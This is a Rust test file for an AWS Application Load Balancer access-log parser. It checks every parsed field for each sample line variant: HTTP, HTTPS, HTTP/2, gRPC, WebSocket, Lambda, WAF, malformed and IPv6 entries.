//! One test per line variant, asserting EVERY field (the expected values are
//! full `AlbRecord` literals, so a missing field does not compile). Inputs are
//! lines of `shared/samples/alb-public.log` (line numbers in each doc comment)
//! or synthetic lines marked as such; expected values follow
//! `shared/samples/alb-public-expected.md` where it covers the line.

use super::*;

#[track_caller]
fn check(line: &str, want: AlbRecord<'_>) {
    let got = parse_line(line).unwrap_or_else(|e| panic!("{e}\n{line}"));
    assert_eq!(got, want, "\n{line}");
    // The same with CRLF.
    assert_eq!(parse_line(&format!("{line}\r\n")).unwrap(), want);
}

/// Sample line 1 (AWS doc): plain http, 29 fields.
#[test]
fn http_29_fields() {
    check(
        r##"http 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337262-36d228ad5d99923122bbe354" "-" "-" 0 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-""##,
        AlbRecord {
            kind: "http",
            time_us: 1530570180186641, // 2018-07-02T22:23:00.186641Z
            elb: "app/my-loadbalancer/50dc6c495c0c9188",
            client_ip: Some("192.168.131.39"),
            client_port: Some(2817),
            target_ip: Some("10.0.0.1"),
            target_port: Some(80),
            request_processing_time: Some(0.0),
            target_processing_time: Some(0.001),
            response_processing_time: Some(0.0),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(34),
            sent_bytes: Some(366),
            request: "GET http://www.example.com:80/ HTTP/1.1",
            method: Some("GET"),
            url: Some("http://www.example.com:80/"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("curl/7.46.0"),
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"),
            trace_id: Some("Root=1-58337262-36d228ad5d99923122bbe354"),
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1530570168364000), // 2018-07-02T22:22:48.364000Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("10.0.0.1:80"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 2 (AWS doc): https, `authenticate,forward`.
#[test]
fn https_authenticate_forward() {
    check(
        r##"https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-" "10.0.0.1:80" "200" "-" "-""##,
        AlbRecord {
            kind: "https",
            time_us: 1530570180186641, // 2018-07-02T22:23:00.186641Z
            elb: "app/my-loadbalancer/50dc6c495c0c9188",
            client_ip: Some("192.168.131.39"),
            client_port: Some(2817),
            target_ip: Some("10.0.0.1"),
            target_port: Some(80),
            request_processing_time: Some(0.086),
            target_processing_time: Some(0.048),
            response_processing_time: Some(0.037),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(0),
            sent_bytes: Some(57),
            request: "GET https://www.example.com:443/ HTTP/1.1",
            method: Some("GET"),
            url: Some("https://www.example.com:443/"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("curl/7.46.0"),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"),
            trace_id: Some("Root=1-58337281-1d84f3d73c47ec4e58577259"),
            domain_name: Some("www.example.com"),
            chosen_cert_arn: Some("arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012"),
            matched_rule_priority: Some(1),
            request_creation_time_us: Some(1530570168364000), // 2018-07-02T22:22:48.364000Z
            actions_executed: Some("authenticate,forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("10.0.0.1:80"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 3 (AWS doc): h2 with a `redirect` action and a redirect_url.
#[test]
fn h2_redirect_action() {
    check(
        r##"h2 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 10.0.1.252:48160 10.0.0.66:9000 0.000 0.002 0.000 200 200 5 257 "GET https://10.0.2.105:773/ HTTP/2.0" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337327-72bd00b0343d75b906739c42" "-" "-" 1 2018-07-02T22:22:48.364000Z "redirect" "https://example.com:80/" "-" "10.0.0.66:9000" "200" "-" "-""##,
        AlbRecord {
            kind: "h2",
            time_us: 1530570180186641, // 2018-07-02T22:23:00.186641Z
            elb: "app/my-loadbalancer/50dc6c495c0c9188",
            client_ip: Some("10.0.1.252"),
            client_port: Some(48160),
            target_ip: Some("10.0.0.66"),
            target_port: Some(9000),
            request_processing_time: Some(0.0),
            target_processing_time: Some(0.002),
            response_processing_time: Some(0.0),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(5),
            sent_bytes: Some(257),
            request: "GET https://10.0.2.105:773/ HTTP/2.0",
            method: Some("GET"),
            url: Some("https://10.0.2.105:773/"),
            protocol: Some("HTTP/2.0"),
            user_agent: Some("curl/7.46.0"),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"),
            trace_id: Some("Root=1-58337327-72bd00b0343d75b906739c42"),
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: Some(1),
            request_creation_time_us: Some(1530570168364000), // 2018-07-02T22:22:48.364000Z
            actions_executed: Some("redirect"),
            redirect_url: Some("https://example.com:80/"),
            error_reason: None,
            target_port_list: Some("10.0.0.66:9000"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 14 (simnalamburt): h2, URL without port.
#[test]
fn h2_url_without_port() {
    check(
        r##"h2 2022-11-01T23:50:27.908737Z app/my-alb/1234567890abcdef 123.123.123.123:65432 10.0.10.0:8080 0.000 0.004 0.000 200 200 288 131 "GET https://example.com HTTP/2.0" "Mozilla/5.0 (iPhone; CPU iPhone OS 15_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MYAPP/4.2.1 iOS/15.6.1 iPhone12,3" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:ap-northeast-2:1234567890:targetgroup/mytargetgroup/0123456789abcdef "Root=1-12345678-01234567890123456789" "example.com" "arn:aws:acm:ap-northeast-2:1234567890:certificate/abcdefgh-abcd-efgh-ijkl-0123456789" 5 2022-11-01T23:50:27.904000Z "forward" "-" "-" "10.0.10.0:8080" "200" "-" "-""##,
        AlbRecord {
            kind: "h2",
            time_us: 1667346627908737, // 2022-11-01T23:50:27.908737Z
            elb: "app/my-alb/1234567890abcdef",
            client_ip: Some("123.123.123.123"),
            client_port: Some(65432),
            target_ip: Some("10.0.10.0"),
            target_port: Some(8080),
            request_processing_time: Some(0.0),
            target_processing_time: Some(0.004),
            response_processing_time: Some(0.0),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(288),
            sent_bytes: Some(131),
            request: "GET https://example.com HTTP/2.0",
            method: Some("GET"),
            url: Some("https://example.com"),
            protocol: Some("HTTP/2.0"),
            user_agent: Some("Mozilla/5.0 (iPhone; CPU iPhone OS 15_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MYAPP/4.2.1 iOS/15.6.1 iPhone12,3"),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:ap-northeast-2:1234567890:targetgroup/mytargetgroup/0123456789abcdef"),
            trace_id: Some("Root=1-12345678-01234567890123456789"),
            domain_name: Some("example.com"),
            chosen_cert_arn: Some("arn:aws:acm:ap-northeast-2:1234567890:certificate/abcdefgh-abcd-efgh-ijkl-0123456789"),
            matched_rule_priority: Some(5),
            request_creation_time_us: Some(1667346627904000), // 2022-11-01T23:50:27.904000Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("10.0.10.0:8080"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 34 (coralogix): grpcs over TLSv1.3.
#[test]
fn grpcs() {
    check(
        r##"grpcs 2024-01-15T12:10:00.200705Z app/dummy-alb/0123456789abcdef 203.0.113.50:36584 10.0.3.185:9002 0.000 0.023 0.000 200 200 588 429 "POST https://metrics.example.com:443/example.metrics.v1.MetricsService/ReportMetrics HTTP/2.0" "grpc-go/1.46.2" TLS_AES_128_GCM_SHA256 TLSv1.3 arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/dummy-target/0123456789abcdef "Root=1-65a52098-000000000000000000000001" "metrics.example.com" "arn:aws:acm:us-east-1:123456789012:certificate/00000000-0000-0000-0000-000000000002" 2 2024-01-15T12:10:00.176000Z "forward" "-" "-" "10.0.3.185:9002" "200" "-" "-""##,
        AlbRecord {
            kind: "grpcs",
            time_us: 1705320600200705, // 2024-01-15T12:10:00.200705Z
            elb: "app/dummy-alb/0123456789abcdef",
            client_ip: Some("203.0.113.50"),
            client_port: Some(36584),
            target_ip: Some("10.0.3.185"),
            target_port: Some(9002),
            request_processing_time: Some(0.0),
            target_processing_time: Some(0.023),
            response_processing_time: Some(0.0),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(588),
            sent_bytes: Some(429),
            request: "POST https://metrics.example.com:443/example.metrics.v1.MetricsService/ReportMetrics HTTP/2.0",
            method: Some("POST"),
            url: Some("https://metrics.example.com:443/example.metrics.v1.MetricsService/ReportMetrics"),
            protocol: Some("HTTP/2.0"),
            user_agent: Some("grpc-go/1.46.2"),
            ssl_cipher: Some("TLS_AES_128_GCM_SHA256"),
            ssl_protocol: Some("TLSv1.3"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/dummy-target/0123456789abcdef"),
            trace_id: Some("Root=1-65a52098-000000000000000000000001"),
            domain_name: Some("metrics.example.com"),
            chosen_cert_arn: Some("arn:aws:acm:us-east-1:123456789012:certificate/00000000-0000-0000-0000-000000000002"),
            matched_rule_priority: Some(2),
            request_creation_time_us: Some(1705320600176000), // 2024-01-15T12:10:00.176000Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("10.0.3.185:9002"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 4 (AWS doc): WebSockets, user agent `"-"`.
#[test]
fn ws() {
    check(
        r##"ws 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 10.0.0.140:40914 10.0.1.192:8010 0.001 0.003 0.000 101 101 218 587 "GET http://10.0.0.30:80/ HTTP/1.1" "-" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 1 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.1.192:8010" "101" "-" "-""##,
        AlbRecord {
            kind: "ws",
            time_us: 1530570180186641, // 2018-07-02T22:23:00.186641Z
            elb: "app/my-loadbalancer/50dc6c495c0c9188",
            client_ip: Some("10.0.0.140"),
            client_port: Some(40914),
            target_ip: Some("10.0.1.192"),
            target_port: Some(8010),
            request_processing_time: Some(0.001),
            target_processing_time: Some(0.003),
            response_processing_time: Some(0.0),
            elb_status_code: Some(101),
            target_status_code: Some(101),
            received_bytes: Some(218),
            sent_bytes: Some(587),
            request: "GET http://10.0.0.30:80/ HTTP/1.1",
            method: Some("GET"),
            url: Some("http://10.0.0.30:80/"),
            protocol: Some("HTTP/1.1"),
            user_agent: None,
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"),
            trace_id: Some("Root=1-58337364-23a8c76965a2ef7629b185e3"),
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: Some(1),
            request_creation_time_us: Some(1530570168364000), // 2018-07-02T22:22:48.364000Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("10.0.1.192:8010"),
            target_status_code_list: Some("101"),
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 5 (AWS doc): WebSockets over TLS.
#[test]
fn wss() {
    check(
        r##"wss 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 10.0.0.140:44244 10.0.0.171:8010 0.000 0.001 0.000 101 101 218 786 "GET https://10.0.0.30:443/ HTTP/1.1" "-" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-west-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 1 2018-07-02T22:22:48.364000Z "forward" "-" "-" "10.0.0.171:8010" "101" "-" "-""##,
        AlbRecord {
            kind: "wss",
            time_us: 1530570180186641, // 2018-07-02T22:23:00.186641Z
            elb: "app/my-loadbalancer/50dc6c495c0c9188",
            client_ip: Some("10.0.0.140"),
            client_port: Some(44244),
            target_ip: Some("10.0.0.171"),
            target_port: Some(8010),
            request_processing_time: Some(0.0),
            target_processing_time: Some(0.001),
            response_processing_time: Some(0.0),
            elb_status_code: Some(101),
            target_status_code: Some(101),
            received_bytes: Some(218),
            sent_bytes: Some(786),
            request: "GET https://10.0.0.30:443/ HTTP/1.1",
            method: Some("GET"),
            url: Some("https://10.0.0.30:443/"),
            protocol: Some("HTTP/1.1"),
            user_agent: None,
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-west-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"),
            trace_id: Some("Root=1-58337364-23a8c76965a2ef7629b185e3"),
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: Some(1),
            request_creation_time_us: Some(1530570168364000), // 2018-07-02T22:22:48.364000Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("10.0.0.171:8010"),
            target_status_code_list: Some("101"),
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 6 (AWS doc): Lambda target (target `-`, target list `"-"`).
#[test]
fn lambda_success() {
    check(
        r##"http 2018-11-30T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 - 0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 0 2018-11-30T22:22:48.364000Z "forward" "-" "-" "-" "-" "-" "-""##,
        AlbRecord {
            kind: "http",
            time_us: 1543616580186641, // 2018-11-30T22:23:00.186641Z
            elb: "app/my-loadbalancer/50dc6c495c0c9188",
            client_ip: Some("192.168.131.39"),
            client_port: Some(2817),
            target_ip: None,
            target_port: None,
            request_processing_time: Some(0.0),
            target_processing_time: Some(0.001),
            response_processing_time: Some(0.0),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(34),
            sent_bytes: Some(366),
            request: "GET http://www.example.com:80/ HTTP/1.1",
            method: Some("GET"),
            url: Some("http://www.example.com:80/"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("curl/7.46.0"),
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"),
            trace_id: Some("Root=1-58337364-23a8c76965a2ef7629b185e3"),
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1543616568364000), // 2018-11-30T22:22:48.364000Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 7 (AWS doc): 502 from a Lambda target, `LambdaInvalidResponse`.
#[test]
fn lambda_502() {
    check(
        r##"http 2018-11-30T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 - 0.000 0.001 0.000 502 - 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337364-23a8c76965a2ef7629b185e3" "-" "-" 0 2018-11-30T22:22:48.364000Z "forward" "-" "LambdaInvalidResponse" "-" "-" "-" "-""##,
        AlbRecord {
            kind: "http",
            time_us: 1543616580186641, // 2018-11-30T22:23:00.186641Z
            elb: "app/my-loadbalancer/50dc6c495c0c9188",
            client_ip: Some("192.168.131.39"),
            client_port: Some(2817),
            target_ip: None,
            target_port: None,
            request_processing_time: Some(0.0),
            target_processing_time: Some(0.001),
            response_processing_time: Some(0.0),
            elb_status_code: Some(502),
            target_status_code: None,
            received_bytes: Some(34),
            sent_bytes: Some(366),
            request: "GET http://www.example.com:80/ HTTP/1.1",
            method: Some("GET"),
            url: Some("http://www.example.com:80/"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("curl/7.46.0"),
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"),
            trace_id: Some("Root=1-58337364-23a8c76965a2ef7629b185e3"),
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1543616568364000), // 2018-11-30T22:22:48.364000Z
            actions_executed: Some("forward"),
            redirect_url: None,
            error_reason: Some("LambdaInvalidResponse"),
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: None,
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 29,
        },
    );
}

/// Sample line 8 (vrl `eight`): `waf,forward`, 30 fields with the TID.
#[test]
fn waf_forward_30_fields() {
    check(
        r##"https 2021-03-16T20:20:00.135052Z app/awseb-AWSEB-1MVD8OW91UMOH/a32a5528b8fdaa6b 10.209.14.140:50599 10.119.5.47:80 0.001 0.052 0.000 200 200 589 2084 "POST https://test.domain.com:443/api/deposits/transactions:search?detailsLevel=FULL&offset=0&limit=50 HTTP/1.1" "User 1.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-1:755269215481:targetgroup/awseb-AWSEB-91MZX0WA1A0F/5a03cc723870f039 "Root=1-605112f0-31f367be4fd3da651daa4157" "some.domain.com" "arn:aws:acm:us-east-1:765229915481:certificate/d8450a8a-b4f6-4714-8535-17c625c36899" 0 2021-03-16T20:20:00.081000Z "waf,forward" "-" "-" "10.229.5.47:80" "200" "-" "-" TID_dc57cebed65b444ebc8177bb698fe166"##,
        AlbRecord {
            kind: "https",
            time_us: 1615926000135052, // 2021-03-16T20:20:00.135052Z
            elb: "app/awseb-AWSEB-1MVD8OW91UMOH/a32a5528b8fdaa6b",
            client_ip: Some("10.209.14.140"),
            client_port: Some(50599),
            target_ip: Some("10.119.5.47"),
            target_port: Some(80),
            request_processing_time: Some(0.001),
            target_processing_time: Some(0.052),
            response_processing_time: Some(0.0),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(589),
            sent_bytes: Some(2084),
            request: "POST https://test.domain.com:443/api/deposits/transactions:search?detailsLevel=FULL&offset=0&limit=50 HTTP/1.1",
            method: Some("POST"),
            url: Some("https://test.domain.com:443/api/deposits/transactions:search?detailsLevel=FULL&offset=0&limit=50"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("User 1.0"),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-east-1:755269215481:targetgroup/awseb-AWSEB-91MZX0WA1A0F/5a03cc723870f039"),
            trace_id: Some("Root=1-605112f0-31f367be4fd3da651daa4157"),
            domain_name: Some("some.domain.com"),
            chosen_cert_arn: Some("arn:aws:acm:us-east-1:765229915481:certificate/d8450a8a-b4f6-4714-8535-17c625c36899"),
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1615926000081000), // 2021-03-16T20:20:00.081000Z
            actions_executed: Some("waf,forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("10.229.5.47:80"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: Some("TID_dc57cebed65b444ebc8177bb698fe166"),
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 30,
        },
    );
}

/// Sample line 9 (vrl `nine`): -1 times, request `"- http://...:80- -"`.
#[test]
fn minus_one_times_malformed_request() {
    check(
        r##"http 2021-03-17T18:54:14.216357Z app/awseb-AWSEB-1KGU6EBAG3FAD/7f0dc2b05788640f 113.241.19.90:15070 - -1 -1 -1 400 - 0 272 "- http://awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com:80- -" "-" - - - "-" "-" "-" - 2021-03-17T18:54:13.967000Z "-" "-" "-" "-" "-" "-" "-" TID_dc57cebed65b444ebc8177bb698fe166"##,
        AlbRecord {
            kind: "http",
            time_us: 1616007254216357, // 2021-03-17T18:54:14.216357Z
            elb: "app/awseb-AWSEB-1KGU6EBAG3FAD/7f0dc2b05788640f",
            client_ip: Some("113.241.19.90"),
            client_port: Some(15070),
            target_ip: None,
            target_port: None,
            request_processing_time: None,
            target_processing_time: None,
            response_processing_time: None,
            elb_status_code: Some(400),
            target_status_code: None,
            received_bytes: Some(0),
            sent_bytes: Some(272),
            request:
                "- http://awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com:80- -",
            method: None,
            url: Some("http://awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com:80-"),
            protocol: None,
            user_agent: None,
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: None,
            trace_id: None,
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: None,
            request_creation_time_us: Some(1616007253967000), // 2021-03-17T18:54:13.967000Z
            actions_executed: None,
            redirect_url: None,
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: Some("TID_dc57cebed65b444ebc8177bb698fe166"),
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 30,
        },
    );
}

/// Sample line 10 (vrl `ten`): POST 400, target `-`, -1 times.
#[test]
fn minus_one_times_post_400() {
    check(
        r##"http 2021-03-18T04:00:26.920977Z app/awseb-AWSEB-1KGU6EBAG3FAD/7f0dc2b05788640f 31.211.20.175:57720 - -1 -1 -1 400 - 191 272 "POST http://awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com:80/cgi-bin/login.cgi HTTP/1.1" "Mozilla/5.0 (X11; Linux x86_64; rv:60.0) Gecko/20100101 Firefox/60.0" - - - "-" "-" "-" - 2021-03-18T04:00:26.599000Z "-" "-" "-" "-" "-" "-" "-" TID_dc57cebed65b444ebc8177bb698fe166"##,
        AlbRecord {
            kind: "http",
            time_us: 1616040026920977, // 2021-03-18T04:00:26.920977Z
            elb: "app/awseb-AWSEB-1KGU6EBAG3FAD/7f0dc2b05788640f",
            client_ip: Some("31.211.20.175"),
            client_port: Some(57720),
            target_ip: None,
            target_port: None,
            request_processing_time: None,
            target_processing_time: None,
            response_processing_time: None,
            elb_status_code: Some(400),
            target_status_code: None,
            received_bytes: Some(191),
            sent_bytes: Some(272),
            request: "POST http://awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com:80/cgi-bin/login.cgi HTTP/1.1",
            method: Some("POST"),
            url: Some("http://awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com:80/cgi-bin/login.cgi"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("Mozilla/5.0 (X11; Linux x86_64; rv:60.0) Gecko/20100101 Firefox/60.0"),
            ssl_cipher: None,
            ssl_protocol: None,
            target_group_arn: None,
            trace_id: None,
            domain_name: None,
            chosen_cert_arn: None,
            matched_rule_priority: None,
            request_creation_time_us: Some(1616040026599000), // 2021-03-18T04:00:26.599000Z
            actions_executed: None,
            redirect_url: None,
            error_reason: None,
            target_port_list: None,
            target_status_code_list: None,
            classification: None,
            classification_reason: None,
            conn_trace_id: Some("TID_dc57cebed65b444ebc8177bb698fe166"),
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 30,
        },
    );
}

/// Sample line 11 (vrl `eleven`): unbracketed IPv6 client and target.
#[test]
fn ipv6_unbracketed_client_and_target() {
    check(
        r##"https 2021-03-16T20:20:00.135052Z app/awseb-AWSEB-1MVD8OW91UMOH/a32a5528b8fdaa6b 2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc:50599 fd6d:6bbc:c529:6::face:ed83:f46:80 0.001 0.052 0.000 200 200 589 2084 "POST https://test.domain.com:443/api/deposits/transactions:search?detailsLevel=FULL&offset=0&limit=50 HTTP/1.1" "User 1.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-1:755269215481:targetgroup/awseb-AWSEB-91MZX0WA1A0F/5a03cc723870f039 "Root=1-605112f0-31f367be4fd3da651daa4157" "some.domain.com" "arn:aws:acm:us-east-1:765229915481:certificate/d8450a8a-b4f6-4714-8535-17c625c36899" 0 2021-03-16T20:20:00.081000Z "waf,forward" "-" "-" "fd6d:6bbc:c529:27ff:b::dead:ed84:80" "200" "-" "-" TID_dc57cebed65b444ebc8177bb698fe166"##,
        AlbRecord {
            kind: "https",
            time_us: 1615926000135052, // 2021-03-16T20:20:00.135052Z
            elb: "app/awseb-AWSEB-1MVD8OW91UMOH/a32a5528b8fdaa6b",
            client_ip: Some("2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc"),
            client_port: Some(50599),
            target_ip: Some("fd6d:6bbc:c529:6::face:ed83:f46"),
            target_port: Some(80),
            request_processing_time: Some(0.001),
            target_processing_time: Some(0.052),
            response_processing_time: Some(0.0),
            elb_status_code: Some(200),
            target_status_code: Some(200),
            received_bytes: Some(589),
            sent_bytes: Some(2084),
            request: "POST https://test.domain.com:443/api/deposits/transactions:search?detailsLevel=FULL&offset=0&limit=50 HTTP/1.1",
            method: Some("POST"),
            url: Some("https://test.domain.com:443/api/deposits/transactions:search?detailsLevel=FULL&offset=0&limit=50"),
            protocol: Some("HTTP/1.1"),
            user_agent: Some("User 1.0"),
            ssl_cipher: Some("ECDHE-RSA-AES128-GCM-SHA256"),
            ssl_protocol: Some("TLSv1.2"),
            target_group_arn: Some("arn:aws:elasticloadbalancing:us-east-1:755269215481:targetgroup/awseb-AWSEB-91MZX0WA1A0F/5a03cc723870f039"),
            trace_id: Some("Root=1-605112f0-31f367be4fd3da651daa4157"),
            domain_name: Some("some.domain.com"),
            chosen_cert_arn: Some("arn:aws:acm:us-east-1:765229915481:certificate/d8450a8a-b4f6-4714-8535-17c625c36899"),
            matched_rule_priority: Some(0),
            request_creation_time_us: Some(1615926000081000), // 2021-03-16T20:20:00.081000Z
            actions_executed: Some("waf,forward"),
            redirect_url: None,
            error_reason: None,
            target_port_list: Some("fd6d:6bbc:c529:27ff:b::dead:ed84:80"),
            target_status_code_list: Some("200"),
            classification: None,
            classification_reason: None,
            conn_trace_id: Some("TID_dc57cebed65b444ebc8177bb698fe166"),
            transformed_host: None,
            transformed_uri: None,
            request_transform_status: None,
            field_count: 30,
        },
    );
}

